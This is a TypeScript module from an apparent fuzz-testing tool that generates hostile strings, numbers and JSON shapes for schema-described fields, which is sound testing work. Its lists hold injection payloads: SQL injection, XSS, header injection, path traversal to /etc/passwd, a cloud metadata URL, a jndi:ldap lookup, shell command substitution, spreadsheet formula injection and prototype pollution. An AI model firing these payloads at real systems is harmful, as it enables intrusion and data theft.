import type { JsonSchema } from './operations.ts'
import { typeOf } from './sample.ts'

const bomb = '\u{1f4a3}'
const combining = '\u0301'

/** Texts that have broken programs before. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\t',
  '\u00a0\u2003\u3000',
  'a\u0000b',
  '\u0001\u001f\u007f\u0085',
  '\ud800',
  'a\udfffb',
  '\udc00\ud800',
  '\ufeffbom',
  '\ufffe\uffff',
  '\u202egnp.exe',
  '\u2066\u2069\u200e\u200f\u061c',
  'a\u200bd\u200cm\u200di\u2060n',
  `e${combining.repeat(500)}`,
  `Z${combining.repeat(5_000)}`,
  bomb.repeat(64),
  bomb.repeat(2_500),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(20),
  '\u212aelvin',
  '\uff21\uff44\uff4d\uff49\uff4e',
  'admin\uff20example.test',
  'ﬀﬁﬂ',
  'ıİſßẞ',
  'аdmin',
  'a'.repeat(9_000),
  'a'.repeat(8_192),
  'a'.repeat(40_000),
  '9'.repeat(400),
  "' OR '1'='1' --",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  "') UNION SELECT password_hash FROM users --",
  '\\x27\\u0027',
  '%27%20OR%201=1',
  '$1 :a ? @p {0}',
  '\\',
  '\\\\',
  '%',
  '_',
  '%s%s%n%x',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'a\r\nX-Injected: 1\r\n\r\n<html>',
  'a\nb',
  'a\r\nBcc: everyone@example.test',
  '\u001b[31mred\u001b[0m',
  '\u2028\u2029',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '{7*7}{{7*7}}<%=7*7%>#{7*7}',
  '%{jndi:ldap://example.test/a}',
  '`id`$(id);id|id&&id',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '1e400',
  '0x41',
  '{"a":1}',
  '[]',
  '=cmd|/c calc!A1',
  '2030-02-30T25:61:61Z',
  '-271821-04-20T00:00:00.000Z',
  '00000000-0000-0000-0000-000000000000',
  'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
  '@',
  'a@b@c',
  `${'a'.repeat(300)}@example.test`,
  'a@[127.0.0.1]',
  '"a b"@example.test',
  'a@example.test\u0000',
  'a@example.test ',
  'a@example.test.',
]

/** JSON numbers at and beyond every edge, as they are spelled. */
const hostileNumbers = [
  '0',
  '-0',
  '-0.0',
  '1.5',
  '-1',
  '1e400',
  '-1e400',
  '1e-400',
  '1E+2',
  '2147483648',
  '-2147483649',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '-9007199254740993',
  '18446744073709551616',
  '0.1000000000000000055511151231257827',
  `1${'0'.repeat(400)}`,
]

const hostileShapes = [
  'null',
  'true',
  'false',
  '[]',
  '{}',
  '[[[]]]',
  '[null]',
  '["a"]',
  '["a","b"]',
  '{"$gt":""}',
  '{"$ne":null}',
  '{"length":1}',
  '{"toString":"x","valueOf":"x"}',
  '{"__proto__":{"role":"admin"}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '{"type":"Buffer","data":[1,2,3]}',
  '{"then":"x"}',
  `${'['.repeat(31)}${']'.repeat(31)}`,
  `${'['.repeat(200)}${']'.repeat(200)}`,
  `${'{"a":'.repeat(40)}1${'}'.repeat(40)}`,
  `[${'0,'.repeat(3_000)}0]`,
  `[${'"x",'.repeat(1_200)}"x"]`,
]

function boundaryLengths({ minLength, maxLength }: JsonSchema): number[] {
  const edges = [minLength, maxLength].filter((edge) => edge !== undefined)
  return edges.flatMap((edge) => [edge - 1, edge, edge + 1]).filter((length) => length >= 0)
}

/** Texts at the edges of a schema's length, in one, two and four bytes a character, and its words misspelled. */
export function boundaryTexts(schema: JsonSchema): string[] {
  const lengths = boundaryLengths(schema)
  const words = (schema.enum ?? []).filter((word) => typeof word === 'string')
  return [
    ...lengths.flatMap((length) => ['a', 'é', bomb].map((letter) => letter.repeat(length))),
    ...words.flatMap((word) => [word.toUpperCase(), `${word} `, `${word}\u0000`, `${word},${word}`]),
  ]
}

/** Numbers at the edges of a schema, as texts. */
export function boundaryNumbers({ minimum, maximum }: JsonSchema): string[] {
  const edges = [minimum, maximum].filter((edge) => edge !== undefined)
  return edges.flatMap((edge) => [`${edge - 1}`, `${edge}`, `${edge + 1}`, `${edge}.5`])
}

/** JSON texts to put where a schema wants a value; not all of them are JSON. */
export function hostileJson(schema: JsonSchema): string[] {
  const texts = [...boundaryTexts(schema), ...hostileTexts].map((text) => JSON.stringify(text))
  const numbers = [...boundaryNumbers(schema), ...hostileNumbers]
  const ofItsKind = typeOf(schema) === 'string' ? texts : [...numbers, ...numbers.map((each) => `"${each}"`)]
  const ofOthers = typeOf(schema) === 'string' ? numbers : texts
  return [
    ...ofItsKind,
    ...hostileShapes,
    ...ofOthers,
    '{"a":1,"a":2}',
    'NaN',
    'Infinity',
    '01',
    "'a'",
    'undefined',
    '',
  ]
}
